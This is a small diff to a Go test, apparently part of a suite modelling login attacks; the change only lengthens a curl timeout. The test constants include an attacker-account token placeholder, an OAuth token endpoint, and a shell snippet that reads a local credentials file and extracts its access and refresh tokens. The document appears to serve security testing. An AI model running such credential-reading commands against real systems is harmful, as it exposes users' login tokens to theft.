@@ -39,7 +39,7 @@ func TestLoginAttacks(t *testing.T) {
 	const (
 		theirs = "sk-ant-ort01-of-the-attackers-account"
 		token  = "https://platform.claude.com/v1/oauth/token"
-		send   = `c() { curl -sS --max-time 20 -w '%{http_code}' "$@"; echo; }; file=~/.claude/.credentials.json; ` +
+		send   = `c() { curl -sS --max-time 60 -w '%{http_code}' "$@"; echo; }; file=~/.claude/.credentials.json; ` +
 			`access=$(sed 's/.*"accessToken":"\([^"]*\)".*/\1/' $file); refresh=$(sed 's/.*"refreshToken":"\([^"]*\)".*/\1/' $file); `
 	)
 	tests := []struct {
